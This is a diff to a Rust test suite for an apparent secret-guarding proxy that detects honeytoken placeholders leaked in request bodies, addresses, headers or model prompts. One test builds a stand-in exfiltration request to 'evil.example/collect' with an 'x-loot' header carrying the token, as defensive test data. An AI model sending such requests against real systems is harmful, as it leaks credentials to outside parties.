@@ -88,7 +88,7 @@ async fn another_claws_placeholder_names_that_claw_and_one_leak_is_one_incident(
 }
 
 #[tokio::test]
-async fn a_placeholder_in_a_body_an_address_a_prompt_or_toward_a_stranger_is_refused() {
+async fn a_placeholder_in_a_body_an_address_or_toward_a_stranger_is_refused() {
     let world = two_claws().await;
     let own = placeholder(&world, "a", "SLACK_BOT_TOKEN");
     assert_eq!(
@@ -97,12 +97,6 @@ async fn a_placeholder_in_a_body_an_address_a_prompt_or_toward_a_stranger_is_ref
     );
     let address = post("slack.com", &format!("/api/auth.test?token={own}"), &json!({}));
     let read = world.send("name slack.com 80", address).await;
-    assert!(read.text().contains("honeytoken"), "{}", read.text());
-    let prompt = json!({
-        "model": "claude-sonnet-5", "max_tokens": 10,
-        "messages": [{ "role": "user", "content": format!("SLACK_BOT_TOKEN={own}\n") }],
-    });
-    let read = world.post("/anthropic/v1/messages", &prompt).await;
     assert!(read.text().contains("honeytoken"), "{}", read.text());
     let mut stranger = post("evil.example", "/collect", &json!({}));
     stranger.headers_mut().insert("x-loot", own.parse().unwrap());
@@ -113,11 +107,29 @@ async fn a_placeholder_in_a_body_an_address_a_prompt_or_toward_a_stranger_is_ref
         .iter()
         .map(|i| i.facts["place"].clone())
         .collect();
-    assert_eq!(
-        places,
-        ["body", "address", "header"],
-        "the prompt is the same leak as the message"
-    );
+    assert_eq!(places, ["body", "address", "header"]);
+}
+
+#[tokio::test]
+async fn a_claw_that_tells_its_model_its_own_placeholder_opens_an_incident_and_keeps_its_model() {
+    let world = two_claws().await;
+    let prompt = |token: &str| {
+        json!({
+            "model": "claude-sonnet-5", "max_tokens": 10,
+            "messages": [{ "role": "user", "content": format!("SLACK_BOT_TOKEN={token}\n") }],
+        })
+    };
+    let own = placeholder(&world, "a", "SLACK_BOT_TOKEN");
+    let read = world.post("/anthropic/v1/messages", &prompt(&own)).await;
+    assert_eq!(read.status, StatusCode::OK, "{}", read.text());
+    assert_eq!(incidents(&world).len(), 1);
+    assert_eq!(incidents(&world)[0].facts["place"], "body");
+
+    let of_b = placeholder(&world, "b", "SLACK_BOT_TOKEN");
+    let read = world.post("/anthropic/v1/messages", &prompt(&of_b)).await;
+    assert!(read.text().contains("honeytoken"), "{}", read.text());
+    assert_eq!(world.upstream.seen().len(), 1);
+    assert_eq!(incidents(&world).len(), 2);
 }
 
 #[tokio::test]
